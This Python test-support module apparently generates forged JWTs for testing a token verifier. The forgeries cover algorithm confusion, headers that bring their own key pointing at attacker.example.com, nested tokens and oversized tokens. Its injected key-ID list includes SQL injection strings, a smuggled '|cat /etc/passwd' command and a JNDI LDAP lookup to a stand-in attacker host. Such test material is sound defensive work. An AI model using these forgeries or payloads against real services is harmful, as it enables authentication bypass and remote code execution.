"""The forger's tokens, by what is tried."""

import json
from collections.abc import Callable
from typing import Any

import jwt
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.support.forger import Forger, base64url, own_jwk, part

ELSEWHERE = "https://attacker.example.com/jwks.json"

type Forgery = Callable[[Forger], str]

_KEY_FORMS: dict[str, Callable[[Forger], bytes]] = {
    "PEM": lambda f: f.public_key(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
    "PEM without the last line feed": lambda f: f.public_key(
        Encoding.PEM, PublicFormat.SubjectPublicKeyInfo
    ).rstrip(),
    "PEM of PKCS 1": lambda f: f.public_key(Encoding.PEM, PublicFormat.PKCS1),
    "DER": lambda f: f.public_key(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
    "DER of PKCS 1": lambda f: f.public_key(Encoding.DER, PublicFormat.PKCS1),
    "JWK": lambda f: json.dumps(f.jwk).encode(),
    "JWK, canonical": lambda f: json.dumps(
        {name: f.jwk[name] for name in ("e", "kty", "n")}, separators=(",", ":")
    ).encode(),
    "modulus": lambda f: f.jwk["n"].encode(),
    "modulus decoded": lambda f: jwt.utils.base64url_decode(f.jwk["n"]),
    "nothing": lambda _: b"",
}


def _confused(form: str, algorithm: str) -> Forgery:
    return lambda forger: forger.with_hmac(_KEY_FORMS[form](forger), algorithm)


CONFUSED_ALGORITHMS: dict[str, Forgery] = {
    f"{algorithm} with the {form}": _confused(form, algorithm)
    for form in _KEY_FORMS
    for algorithm in ("HS256", "HS384", "HS512")
}

_KIDS: list[Any] = [
    "",
    "../../../../dev/null",
    "/dev/null",
    "file:///dev/null",
    ELSEWHERE,
    "' OR '1'='1",
    "x' UNION SELECT 'key' --",
    "|cat /etc/passwd",
    "${jndi:ldap://attacker.example.com}",
    "\x00",
    "\ud800",
    "k" * 5_000,
    0,
    1.5,
    True,
    None,
    [],
    {},
    {"$ne": None},
]
# Made of the issuer's own.
_ALMOST: dict[str, Callable[[str], Any]] = {
    "in a list": lambda kid: [kid],
    "in an object": lambda kid: {"kid": kid},
    "and a NUL": lambda kid: f"{kid}\x00",
    "and a space": lambda kid: f"{kid} ",
    "and a path": lambda kid: f"{kid}/../forger",
    "and another": lambda kid: f"{kid},forger",
}


def _named(kid: Any) -> Forgery:
    return lambda forger: forger.with_own_key(kid=kid)


def _almost_named(change: Callable[[str], Any]) -> Forgery:
    return lambda forger: forger.with_own_key(kid=change(forger.jwk["kid"]))


INJECTED_KIDS: dict[str, Forgery] = {
    **{f"kid {kid!r:.40}": _named(kid) for kid in _KIDS},
    **{f"the kid {how}": _almost_named(change) for how, change in _ALMOST.items()},
}


def _brought_along(**header: Any) -> Forgery:
    return lambda forger: forger.with_own_key(**header)


KEYS_BROUGHT_ALONG: dict[str, Forgery] = {
    "jku": _brought_along(jku=ELSEWHERE),
    "jku and kid": _brought_along(jku=ELSEWHERE, kid="forger"),
    "x5u": _brought_along(x5u=ELSEWHERE),
    "x5c": _brought_along(x5c=["MIIB"]),
    "jwk": lambda forger: forger.with_own_key(jwk=own_jwk(forger.jwk["kid"])),
    "jwk and kid": _brought_along(jwk=own_jwk("forger"), kid="forger"),
    "jwk without kid": lambda forger: forger.with_own_key(jwk=own_jwk("forger"), kid=None),
    "jwks": lambda forger: forger.with_own_key(jwks={"keys": [own_jwk(forger.jwk["kid"])]}),
}

NESTED: dict[str, Forgery] = {
    "a good token in a forged one": lambda f: f.sealed(f.good.encode(), cty="JWT"),
    "a good token as a JSON text": lambda f: f.sealed(json.dumps(f.good).encode(), cty="JWT"),
    "a forged token in a forged one": lambda f: f.sealed(f.with_own_key().encode(), cty="JWT"),
    "a good token in one unsigned": lambda f: (
        f"{part({'alg': 'none'})}.{base64url(f.good.encode())}."
    ),
    "a good token and more": lambda f: f"{f.good}.{f.good}",
    "a good token twice": lambda f: f"{f.good},{f.good}",
    "as if encrypted": lambda _: ".".join([part({"alg": "dir", "enc": "A128GCM"}), *"abcd"]),
    "in JSON": lambda f: json.dumps(
        dict(zip(("protected", "payload", "signature"), f.good.split("."), strict=True))
    ),
}


def oversized(kilobytes: int) -> dict[str, Forgery]:
    """Tokens of about that size, the good one among their parts."""
    size = kilobytes * 1024
    return {
        "letters": lambda _: "a" * size,
        "dots": lambda _: "." * size,
        "no signature but a long one": lambda f: f"{f.good.rpartition('.')[0]}.{'a' * size}",
        "a longer signature": lambda f: f.good + "A" * size,
        "a long header": lambda f: f.with_own_key(x="x" * (size * 3 // 4)),
        "a long kid": lambda f: f.with_own_key(kid="k" * (size * 3 // 4)),
        "a deep header": lambda _: (
            base64url(b'{"alg":"RS256","x":' + b"[" * (size * 3 // 4)) + ".e30.AAAA"
        ),
        "a deep payload": lambda f: f.sealed(b"[" * (size * 3 // 4)),
    }
